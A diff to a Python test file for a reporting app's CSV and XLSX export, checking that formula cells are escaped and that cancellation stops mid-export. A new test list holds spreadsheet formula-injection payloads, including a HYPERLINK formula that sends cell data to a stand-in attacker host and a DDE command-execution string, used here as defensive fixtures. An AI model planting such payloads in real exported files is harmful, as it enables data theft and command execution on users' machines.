@@ -5,6 +5,7 @@ import csv
 import hashlib
 import io
 from datetime import timedelta
+from decimal import Decimal
 from pathlib import Path
 from unittest import mock
 
@@ -53,8 +54,8 @@ def test_csv_export_of_a_filtered_report(account, sent, user_client):
     assert rows[0] == list(exports.HEADER) and len(rows) == 6
     assert {r[3] for r in rows[1:]} == {"GB"}
     # Each row carries its status's explanation from the one status table.
-    assert all(r[-1] == statuses.explain(r[7], r[8]) and r[-1] for r in rows[1:])
-    assert rows[1][11].startswith("'=HYPERLINK")  # a formula is text in every spreadsheet
+    assert all(r[-1] == statuses.explain(r[8], r[9]) and r[-1] for r in rows[1:])
+    assert rows[1][12].startswith("'=HYPERLINK")  # a formula is text in every spreadsheet
     assert job.expires_at > timezone.now() + timedelta(days=6)
     res = user_client.get(reverse("reports:export_download", args=[job.uuid]))
     assert res.status_code == 200 and res["X-Checksum-SHA256"] == job.checksum
@@ -70,7 +71,7 @@ def test_xlsx_export(account, sent):
     sheet = load_workbook(job.file.path, read_only=True)["Messages"]
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0] == exports.HEADER and len(rows) == 8
-    assert any(str(r[11]).startswith("'=HYPERLINK") for r in rows[1:])
+    assert any(str(r[12]).startswith("'=HYPERLINK") for r in rows[1:])
     assert job.checksum == hashlib.sha256(Path(job.file.path).read_bytes()).hexdigest()
 
 
@@ -104,19 +105,68 @@ def test_cancel_a_queued_and_a_running_export(account, sent, user_client):
     assert queued.status == ExportStatus.CANCELLED and not queued.file
 
     running, _ = _queue(account, {"iso": "GB"})
-    real_rows = exports.rows_of
+    real_blocks = exports._blocks
 
-    def cancelled_after_two(job):
-        for i, row in enumerate(real_rows(job)):
-            if i == 2:
+    def cancelled_in_the_second_block(job, fmt, write):
+        for i, rows in enumerate(real_blocks(job, fmt, write)):
+            if i == 1:
                 exports.cancel(job)
-            yield row
+            yield rows
 
-    with mock.patch.object(exports, "PROGRESS_EVERY", 1), mock.patch.object(exports, "rows_of", cancelled_after_two):
+    with (
+        mock.patch.object(exports, "PROGRESS_EVERY", 2),
+        mock.patch.object(exports, "_blocks", cancelled_in_the_second_block),
+    ):
         assert exports.run(running.pk) is None
     running.refresh_from_db()
-    # It stops at the next progress update: the third row was written when it noticed.
-    assert running.status == ExportStatus.CANCELLED and running.rows == 3 and not running.file
+    # It stops at the next progress update: the second block (rows 3-4) was written when it noticed.
+    assert running.status == ExportStatus.CANCELLED and running.rows == 4 and not running.file
+
+
+NASTY = [
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "+cmd|' /C calc'!A0",
+    "-12.50",
+    "+447400123456",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1",
+    'say "hi", then\nleave',
+    "back\\slash\\\\two",
+    "<b>&amp;</b>",
+    "bell\x07 and tab\there",
+    "naïve ☃",
+    "",
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_sql_formatting_matches_the_python_rules_cell_by_cell(account, sent, fmt):
+    # The same rows through COPY (PostgreSQL) and through rows_of + safe_cell (other databases).
+    messages = list(Message.objects.filter(account=account).order_by("submitted_at", "id"))
+    for message, custom in zip(messages, NASTY, strict=False):
+        Message.objects.filter(pk=message.pk).update(custom=custom)
+    job, _ = _queue(account, {}, fmt=fmt)
+    job = ExportJob.objects.select_related("account").get(pk=job.pk)
+    expected = [[exports.safe_cell(v) for v in row] for row in exports.rows_of(job)]
+    assert exports.run(job.pk) == len(messages) == 7
+    job.refresh_from_db()
+    path = Path(job.file.path)
+    assert job.checksum == hashlib.sha256(path.read_bytes()).hexdigest() and job.size == path.stat().st_size
+    if fmt == "csv":
+        got = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
+        assert got[0] == list(exports.HEADER)
+        assert got[1:] == [[str(v) for v in row] for row in expected]
+    else:
+        sheet = load_workbook(path, read_only=True)["Messages"]
+        got = list(sheet.iter_rows(values_only=True))
+        assert got[0] == exports.HEADER
+        for row, want in zip(got[1:], expected, strict=True):
+            # XML 1.0 cannot hold the bell: it is dropped; numbers come back as numbers.
+            want = [v.replace("\x07", "") if isinstance(v, str) else v for v in want]
+            text = [("" if v is None else v) for i, v in enumerate(row) if i not in (10, 11)]
+            assert text == [v for i, v in enumerate(want) if i not in (10, 11)]
+            assert row[10] == want[10] and Decimal(str(row[11])) == want[11]
 
 
 def test_page_request_and_retention(account, sent, user_client, django_capture_on_commit_callbacks):
